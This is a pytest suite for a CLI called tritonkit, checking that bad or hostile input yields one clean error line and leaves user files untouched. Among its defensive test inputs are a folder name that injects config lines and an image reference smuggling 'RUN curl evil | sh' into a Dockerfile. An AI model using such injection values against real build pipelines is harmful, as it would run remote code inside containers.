"""Issue 10, as a careless or hostile user: every case is one `Error:` line (no traceback), a
non-zero exit, and nothing written, replaced or half-written."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner
from google.protobuf import text_format
from tritonclient.grpc import model_config_pb2

from tests.fixtures.tiny_models import build_tiny_bert
from tritonkit.cli import main

TRITONKIT = [sys.executable, "-m", "tritonkit"]
Run = subprocess.CompletedProcess[str]
CLASSIFY = ("--task", "text-classification", "--name", "cls")


def run(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(main, list(args))
    return result.exit_code, result.output


def snapshot(folder: Path) -> dict[str, bytes]:
    """Every file under `folder` and its bytes: what must survive a refused command."""
    return {str(p.relative_to(folder)): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


def copy_model(tiny_model_dirs: dict[str, Path], dest: Path) -> Path:
    return Path(shutil.copytree(tiny_model_dirs["text-classification"], dest))


def error_lines(stderr: str) -> list[str]:
    """The `Error:` line(s) of a run; libraries' own warnings may precede them, a traceback
    may not."""
    assert "Traceback" not in stderr, stderr
    return stderr[stderr.index("Error: ") :].splitlines() if "Error: " in stderr else [stderr]


def in_mount_namespace(setup: str, *args: str, left: Path | None = None) -> Run:
    """`tritonkit ARGS` in a private mount namespace after the shell commands `setup` (mounts
    that vanish with the namespace); then stdout gets `LEFT:` and what is left in `left`.
    Skips where namespaces are not allowed."""
    probe = subprocess.run(
        ["unshare", "--user", "--map-root-user", "--mount", "true"], capture_output=True
    )
    if probe.returncode != 0:
        pytest.skip("no mount namespaces here (unshare --user --mount failed)")
    after = f"echo LEFT:; ls -A {left}" if left is not None else "true"
    script = f'{setup} || exit 99; "$@"; rc=$?; {after}; exit $rc'
    return subprocess.run(
        ["unshare", "--user", "--map-root-user", "--mount", "--propagation", "private",
         "sh", "-c", script, "sh", *TRITONKIT, *args],
        capture_output=True, text=True, timeout=300,
    )  # fmt: skip


# Item 3: -o and --force never lose user data.


@pytest.mark.parametrize("where", ["same", "inside", "contains"])
def test_output_overlapping_the_model_folder_is_refused(
    tmp_path: Path, tiny_model_dirs: dict[str, Path], where: str
) -> None:
    model = copy_model(tiny_model_dirs, tmp_path / "models" / "m")
    before = snapshot(tmp_path)
    output = {"same": model, "inside": model / "repo", "contains": model.parent}[where]
    code, out = run("generate", str(model), *CLASSIFY, "-o", str(output), "--force")
    assert code == 1
    assert out == (
        f"Error: {output}: is, contains or lies inside the model folder {model}: "
        "choose another -o\n"
    )
    assert snapshot(tmp_path) == before


def test_force_replaces_only_a_folder_tritonkit_wrote(
    tmp_path: Path, tiny_model_dirs: dict[str, Path]
) -> None:
    mine = tmp_path / "photos"
    mine.mkdir()
    (mine / "cat.jpg").write_bytes(b"\xff\xd8 not really a cat")
    (mine / "sub").mkdir()
    (mine / "sub" / "notes.txt").write_text("precious")
    before = snapshot(tmp_path)
    model = tiny_model_dirs["text-classification"]
    code, out = run("generate", str(model), *CLASSIFY, "-o", str(mine), "--force")
    assert code == 1
    assert out == (
        f"Error: {mine}: --force replaces only a repository tritonkit wrote (it holds "
        "tritonkit.json); this folder does not: choose another -o or remove it yourself\n"
    )
    assert snapshot(tmp_path) == before


def test_the_committed_model_repository_folder_keeps_its_gitignore(
    tmp_path: Path, tiny_model_dirs: dict[str, Path]
) -> None:
    """The project's model_repository/ (only its .gitignore is committed) is written without
    --force, keeps the .gitignore through a first and a forced second generate, and a look-alike
    that is not the placeholder is still refused."""
    committed = Path(__file__).resolve().parents[2] / "model_repository" / ".gitignore"
    output = tmp_path / "model_repository"
    output.mkdir()
    shutil.copyfile(committed, output / ".gitignore")
    model = tiny_model_dirs["text-classification"]
    for extra in ((), ("--force",)):
        code, out = run("generate", str(model), *CLASSIFY, "-o", str(output), *extra)
        assert code == 0, out
        assert (output / ".gitignore").read_bytes() == committed.read_bytes()
        assert (output / "tritonkit.json").is_file()
    other = tmp_path / "other"
    other.mkdir()
    (other / ".gitignore").write_text("*.log\n")
    code, out = run("generate", str(model), *CLASSIFY, "-o", str(other))
    assert code == 1
    assert out == (
        f"Error: {other}: output already exists: pass --force to replace it or choose another -o\n"
    )
    assert (other / ".gitignore").read_text() == "*.log\n"


def test_force_onto_a_mount_point_is_refused(
    tmp_path: Path, tiny_model_dirs: dict[str, Path]
) -> None:
    mnt = tmp_path / "mnt"
    mnt.mkdir()
    model = tiny_model_dirs["text-classification"]
    result = in_mount_namespace(
        f"mount -t tmpfs tmpfs {mnt} && echo '{{}}' > {mnt}/tritonkit.json",
        "generate", str(model), *CLASSIFY, "-o", str(mnt), "--force",
    )  # fmt: skip
    assert result.returncode == 1, result.stdout + result.stderr
    assert result.stderr == (
        f"Error: {mnt}: is a mount point, which cannot be replaced by a rename: write to a "
        f"folder inside it (e.g. -o {mnt / 'repository'})\n"
    )


# Item 6 and 8: spec sections written as scalars; cross-field rules.


@pytest.mark.parametrize(
    ("line", "key", "shown"),
    [
        ("dynamic_batching: false", "dynamic_batching", "false"),
        ("instances: 4", "instances", "4"),
        ('export: "none"', "export", '"none"'),
        ("tokenizer: [16, 32]", "tokenizer", "[16, 32]"),
    ],
)
def test_a_section_written_as_a_scalar_is_an_error(
    tmp_path: Path, line: str, key: str, shown: str
) -> None:
    spec = tmp_path / "s.yaml"
    spec.write_text(f"model: m\n{line}\n")
    code, out = run("generate", "--spec", str(spec), "-o", str(tmp_path / "r"))
    assert code == 2
    assert out == (
        f"Error: {spec}: {key}: is a section: write its keys on the lines below it, not {shown}\n"
    )
    assert not (tmp_path / "r").exists()


def test_preferred_batch_size_above_max_batch_size(tmp_path: Path) -> None:
    spec = tmp_path / "s.yaml"
    spec.write_text("model: m\nmax_batch_size: 16\ndynamic_batching:\n  preferred_batch_sizes: "
                    "[8, 64]\n")  # fmt: skip
    code, out = run("generate", "--spec", str(spec))
    assert code == 2
    assert out == (
        f"Error: {spec}: dynamic_batching.preferred_batch_sizes: [64] exceed max_batch_size 16: "
        "lower them or raise max_batch_size\n"
    )
    code, out = run("generate", str(tmp_path), "--max-batch-size", "4", "--preferred-batch-size",
                    "8")  # fmt: skip
    assert code == 2
    assert out == (
        "Error: spec: dynamic_batching.preferred_batch_sizes: [8] exceed max_batch_size 4: "
        "lower them or raise max_batch_size\n"
    )


# Item 9: nothing a user types becomes live config.


def test_a_model_folder_name_with_newlines_stays_in_its_comment(
    tmp_path: Path, tiny_model_dirs: dict[str, Path]
) -> None:
    evil = "m\ninstance_group [ { count: 4 kind: KIND_CPU } ]\nresponse_cache { enable: true }\n#"
    model = copy_model(tiny_model_dirs, tmp_path / evil)
    repo = tmp_path / "repo"
    code, out = run("generate", str(model), *CLASSIFY, "--target-cpus", "3", "-o", str(repo))
    assert code == 0, out
    text = (repo / "cls_onnx" / "config.pbtxt").read_text()
    comments = [line for line in text.splitlines() if "instance_group [ {" in line]
    assert len(comments) == 1 and comments[0].startswith("# ")
    config = text_format.Parse(text, model_config_pb2.ModelConfig())
    assert [g.count for g in config.instance_group] == [3]  # the target's, not the injected 4
    assert not config.response_cache.enable
    code, out = run("validate", str(repo))
    assert code == 0, out


def test_an_image_reference_with_a_newline_is_refused(tmp_path: Path) -> None:
    code, out = run("generate", str(tmp_path), "--triton-image", "img\nRUN curl evil | sh",
                    "-o", str(tmp_path / "r"))  # fmt: skip
    assert code == 2
    assert out == (
        "Error: spec: triton_image: 'img\\nRUN curl evil | sh' is not a valid image reference: "
        "use [registry[:port]/]repository[:tag][@sha256:digest] with lower-case repository "
        "components (e.g. nvcr.io/nvidia/tritonserver:24.10-py3)\n"
    )
    assert not (tmp_path / "r").exists()


def test_a_name_with_a_trailing_newline_is_refused(tmp_path: Path) -> None:
    code, out = run("generate", str(tmp_path), "--name", "cls\n", "-o", str(tmp_path / "r"))
    assert code == 2
    assert out == (
        "Error: spec: name: 'cls\\n' is not a valid deployment name: use letters, digits, '_', "
        "'-', '.' (no spaces or path separators), starting with a letter or digit\n"
    )
    assert not (tmp_path / "r").exists()


@pytest.mark.parametrize(("label", "shown"), [("pos\nitive", "pos\\nitive"),
                                              ("neg\x00", "neg\\x00"),
                                              ("a\u2028b", "a\\u2028b")])  # fmt: skip
def test_a_label_with_a_line_break_is_refused(tmp_path: Path, label: str, shown: str) -> None:
    model = build_tiny_bert(tmp_path / "m", labels=("negative", label, "neutral"))
    code, out = run("generate", str(model), *CLASSIFY, "-o", str(tmp_path / "r"))
    assert code == 1
    assert out == (
        f"Error: {model / 'config.json'}: field id2label: label 1 '{shown}' holds a newline or "
        "control character, which would shift labels.txt: rename it in config.json\n"
    )
    assert not (tmp_path / "r").exists()


# Item 10: files and folders that cannot be used.


def test_a_corrupt_tokenizer_json_is_one_line_in_generate_and_export(
    tmp_path: Path, tiny_model_dirs: dict[str, Path]
) -> None:
    model = copy_model(tiny_model_dirs, tmp_path / "m")
    (model / "tokenizer.json").write_text('{"version": "1.0", "model": {"type": "Nope"}}')
    for command in (["generate", *CLASSIFY, "-o"], ["export", "--task", "text-classification",
                                                    "-o"]):  # fmt: skip
        output = tmp_path / f"out-{command[0]}"
        code, out = run(command[0], str(model), *command[1:], str(output))
        assert code == 1, out
        assert out.startswith(f"Error: {model / 'tokenizer.json'}: not a tokenizers file (")
        assert out.endswith("): re-save it with AutoTokenizer.from_pretrained(folder)"
                            ".save_pretrained(folder)\n")  # fmt: skip
        assert out.count("\n") == 1
        assert not output.exists()


def test_a_tokenizer_json_that_is_not_json_is_one_line(
    tmp_path: Path, tiny_model_dirs: dict[str, Path]
) -> None:
    model = copy_model(tiny_model_dirs, tmp_path / "m")
    (model / "tokenizer.json").write_bytes(b"\x89PNG\r\n\x1a\n binary")
    code, out = run("export", str(model), "--task", "text-classification", "-o",
                    str(tmp_path / "o"))  # fmt: skip
    assert code == 1, out
    assert out.startswith(f"Error: {model / 'tokenizer.json'}: not a tokenizers file (")
    assert out.count("\n") == 1
    assert not (tmp_path / "o").exists()


def test_output_under_a_file(tmp_path: Path, tiny_model_dirs: dict[str, Path]) -> None:
    blocker = tmp_path / "a-file"
    blocker.write_text("x")
    model = tiny_model_dirs["text-classification"]
    code, out = run("generate", str(model), *CLASSIFY, "-o", str(blocker / "repo"))
    assert code == 1
    assert out == (
        f"Error: {blocker / 'repo'}: lies under {blocker}, which is a file, not a folder: "
        "choose another -o\n"
    )
    assert blocker.read_text() == "x"
    code, out = run("export", str(model), "--task", "text-classification", "-o",
                    str(blocker / "onnx"))  # fmt: skip
    assert code == 1
    assert out == (
        f"Error: {blocker / 'onnx'}: lies under {blocker}, which is a file, not a folder: "
        "choose another -o\n"
    )


def test_a_read_only_output_folder(tmp_path: Path, tiny_model_dirs: dict[str, Path]) -> None:
    ro = tmp_path / "ro"
    ro.mkdir()
    model = tiny_model_dirs["text-classification"]
    result = in_mount_namespace(
        f"mount -t tmpfs -o ro tmpfs {ro}",
        "generate", str(model), *CLASSIFY, "-o", str(ro / "repo"),
    )  # fmt: skip
    assert result.returncode == 1, result.stdout + result.stderr
    assert result.stderr == (
        f"Error: {ro}: cannot write here (Read-only file system): choose another -o\n"
    )


def test_disk_full_while_writing(tmp_path: Path, tiny_model_dirs: dict[str, Path]) -> None:
    small = tmp_path / "small"
    small.mkdir()
    model = tiny_model_dirs["text-classification"]
    result = in_mount_namespace(
        f"mount -t tmpfs -o size=256k tmpfs {small}",
        "generate", str(model), *CLASSIFY, "-o", str(small / "repo"), left=small,
    )  # fmt: skip
    assert result.returncode == 1, result.stdout + result.stderr
    assert error_lines(result.stderr) == [
        f"Error: {small / 'repo'}: no space left on the device: free space or choose another -o"
    ]
    assert result.stdout.endswith("LEFT:\n")  # no staging folder, no partial repository


def test_export_when_the_disk_is_full(tmp_path: Path, tiny_model_dirs: dict[str, Path]) -> None:
    small = tmp_path / "small"
    small.mkdir()
    model = tiny_model_dirs["text-classification"]
    result = in_mount_namespace(
        f"mount -t tmpfs -o size=64k tmpfs {small}",
        "export", str(model), "--task", "text-classification", "-o", str(small / "onnx"),
        left=small,
    )  # fmt: skip
    assert result.returncode == 1, result.stdout + result.stderr
    assert error_lines(result.stderr) == [
        f"Error: {small / 'onnx'}: no space left on the device: free space or choose another -o"
    ]
    assert result.stdout.endswith("LEFT:\n")  # the folder export created is removed


def test_a_spec_that_is_not_utf8(tmp_path: Path) -> None:
    spec = tmp_path / "s.yaml"
    spec.write_bytes(b"model: m\nname: caf\xe9\n")
    code, out = run("generate", "--spec", str(spec))
    assert code == 2
    assert out == f"Error: {spec}: not UTF-8 text: save the spec as UTF-8\n"


def test_onnx_that_is_a_folder(tmp_path: Path, tiny_model_dirs: dict[str, Path]) -> None:
    folder = tmp_path / "onnx"
    folder.mkdir()
    model = tiny_model_dirs["text-classification"]
    code, out = run("generate", str(model), *CLASSIFY, "--onnx", str(folder), "-o",
                    str(tmp_path / "r"))  # fmt: skip
    assert code == 1
    assert out == (
        f"Error: {folder}: export.onnx: is a folder, not an ONNX file: pass the path of its "
        "model.onnx\n"
    )
    assert sorted(p.name for p in tmp_path.iterdir()) == ["onnx"]


@pytest.mark.parametrize(
    ("port", "message"),
    [("0", "Input should be greater than or equal to 1"),
     ("70000", "Input should be less than or equal to 65535")],
)  # fmt: skip
def test_serve_ports_out_of_range(tmp_path: Path, port: str, message: str) -> None:
    code, out = run("serve", str(tmp_path), "--http-port", port)
    assert code == 2
    assert out == f"Error: --http-port: {message}\n"


# Item 11: staging folders of killed runs are swept; SIGTERM cleans up.


def test_stale_staging_folders_of_dead_runs_are_swept(
    tmp_path: Path, tiny_model_dirs: dict[str, Path]
) -> None:
    probe = subprocess.Popen(["true"])  # its pid is dead once waited for
    probe.wait()
    stale = tmp_path / f".repo.tmp-{probe.pid}-abc123"
    (stale / "cls_onnx").mkdir(parents=True)
    (stale / "cls_onnx" / "model.onnx").write_bytes(b"x" * 1000)
    unrelated = tmp_path / ".repo.tmp-notapid-x"
    unrelated.mkdir()
    model = tiny_model_dirs["text-classification"]
    code, out = run("generate", str(model), *CLASSIFY, "-o", str(tmp_path / "repo"))
    assert code == 0, out
    assert sorted(p.name for p in tmp_path.iterdir()) == [".repo.tmp-notapid-x", "repo"]


def test_sigterm_during_generate_leaves_no_staging_folder(
    tmp_path: Path, tiny_model_dirs: dict[str, Path]
) -> None:
    import signal
    import time

    model = tiny_model_dirs["text-classification"]
    process = subprocess.Popen(
        [*TRITONKIT, "generate", str(model), *CLASSIFY, "-o", str(tmp_path / "repo")],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    deadline = time.monotonic() + 120
    while not any(p.name.startswith(".repo.tmp-") for p in tmp_path.iterdir()):
        assert process.poll() is None, process.communicate()
        assert time.monotonic() < deadline
        time.sleep(0.02)
    process.send_signal(signal.SIGTERM)
    _, err = process.communicate(timeout=60)
    assert process.returncode != 0, err
    assert "Traceback" not in err
    assert list(tmp_path.iterdir()) == []


# Item 14: the repository root follows the umask like every other folder (not mkdtemp's 0700).


def test_the_repository_root_follows_the_umask(
    tmp_path: Path, tiny_model_dirs: dict[str, Path]
) -> None:
    import os

    repo = tmp_path / "repo"
    old = os.umask(0o022)
    try:
        code, out = run("generate", str(tiny_model_dirs["text-classification"]), *CLASSIFY,
                        "-o", str(repo))  # fmt: skip
    finally:
        os.umask(old)
    assert code == 0, out
    assert json.loads((repo / "tritonkit.json").read_text())["spec"]["name"] == "cls"
    assert repo.stat().st_mode & 0o777 == 0o755
    assert (repo / "cls").stat().st_mode & 0o777 == 0o755


# Item 7: a given --onnx must be the graph of this model folder.


@pytest.fixture(scope="module")
def tiny_classifier_onnx(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The tiny two-label classifier's export (vocabulary of 232 ids, inputs with
    token_type_ids)."""
    from tritonkit.model.export import export_model

    root = tmp_path_factory.mktemp("given_onnx")
    model = build_tiny_bert(root / "m", labels=("negative", "positive"))
    return export_model(model, "text-classification", root / "onnx").onnx_path


def test_another_models_onnx_is_refused_line_by_line(
    tmp_path: Path, tiny_classifier_onnx: Path
) -> None:
    from tokenizers import Tokenizer

    folder = build_tiny_bert(tmp_path / "other", labels=("negative", "neutral", "positive"))
    tokenizer = Tokenizer.from_file(str(folder / "tokenizer.json"))
    tokenizer.add_tokens([f"extra{i}" for i in range(8)])  # ids 232..239
    tokenizer.save(str(folder / "tokenizer.json"))
    before = snapshot(tmp_path)
    code, out = run("generate", str(folder), *CLASSIFY, "--onnx", str(tiny_classifier_onnx),
                    "-o", str(tmp_path / "repo"))  # fmt: skip
    assert code == 1
    fix = "pass the ONNX file exported from this model folder (`tritonkit export`)"
    assert out.splitlines() == [
        f"Error: {tiny_classifier_onnx}: the graph's embedding table has 232 rows but "
        f"{folder / 'tokenizer.json'} has 240 token ids: {fix}",
        f"{tiny_classifier_onnx}: the graph scores 2 classes but {folder / 'config.json'} has 3 "
        f"labels (id2label): {fix}",
    ]
    assert snapshot(tmp_path) == before


def test_an_onnx_with_other_inputs_is_refused(tmp_path: Path, tiny_classifier_onnx: Path) -> None:
    import onnx

    graph = onnx.load(str(tiny_classifier_onnx))
    for value in graph.graph.input:
        if value.name == "token_type_ids":
            value.name = "segment_ids"
    for node in graph.graph.node:
        node.input[:] = ["segment_ids" if i == "token_type_ids" else i for i in node.input]
    renamed = tmp_path / "renamed.onnx"
    onnx.save(graph, str(renamed))
    folder = build_tiny_bert(tmp_path / "m", labels=("negative", "positive"))
    code, out = run("generate", str(folder), *CLASSIFY, "--onnx", str(renamed), "-o",
                    str(tmp_path / "repo"))  # fmt: skip
    assert code == 1
    assert out == (
        f"Error: {renamed}: graph inputs (input_ids, attention_mask, segment_ids) differ from "
        "what the tokenizer feeds a bert model (input_ids, attention_mask, token_type_ids): pass "
        "the ONNX file exported from this model folder (`tritonkit export`)\n"
    )
    assert not (tmp_path / "repo").exists()


def test_the_matching_onnx_is_accepted(tmp_path: Path, tiny_classifier_onnx: Path) -> None:
    folder = tiny_classifier_onnx.parent.parent / "m"
    code, out = run("generate", str(folder), *CLASSIFY, "--onnx", str(tiny_classifier_onnx),
                    "-o", str(tmp_path / "repo"))  # fmt: skip
    assert code == 0, out


def test_the_dockerfile_runs_as_a_non_root_user(
    tmp_path: Path, tiny_model_dirs: dict[str, Path]
) -> None:
    repo = tmp_path / "repo"
    image = "registry.example.com:5000/team/tritonserver:24.10-py3"
    code, out = run("generate", str(tiny_model_dirs["text-classification"]), *CLASSIFY, "-o",
                    str(repo), "--triton-image", image)  # fmt: skip
    assert code == 0, out
    lines = (repo / "Dockerfile").read_text().splitlines()
    instructions = [line.split()[0] for line in lines if line and not line.startswith("#")]
    assert instructions == ["FROM", "RUN", "COPY", "USER", "EXPOSE", "CMD"]
    assert f"FROM {image}" in lines
    assert "USER 1000:1000" in lines  # triton-server in NGC images; numeric for runAsNonRoot
    assert "COPY --chown=0:0 . /models" in lines


# Items 12 and 13: serve refuses what it cannot serve before anything starts.


def test_serve_refuses_an_empty_folder(tmp_path: Path) -> None:
    code, out = run("serve", str(tmp_path))
    assert code == 1
    assert out == (
        f"Error: {tmp_path}: no models to serve (no folder with a config.pbtxt): write a "
        f"repository with `tritonkit generate MODEL_DIR -o {tmp_path}`\n"
    )


def test_serve_refuses_a_repository_missing_model_py(
    tmp_path: Path, tiny_model_dirs: dict[str, Path]
) -> None:
    """Served anyway, this load would hang for ever in Triton 2.51."""
    repo = tmp_path / "repo"
    code, out = run("generate", str(tiny_model_dirs["text-classification"]), *CLASSIFY, "-o",
                    str(repo))  # fmt: skip
    assert code == 0, out
    (repo / "cls_tokenizer" / "1" / "model.py").unlink()
    code, out = run("serve", str(repo), "--timeout", "5")
    assert code == 1
    assert out == (
        "Error: cls_tokenizer/1/model.py: Python backend file missing\n"
        f"{repo}: 1 problem(s): fix them (see `tritonkit validate {repo}`) before serving\n"
    )
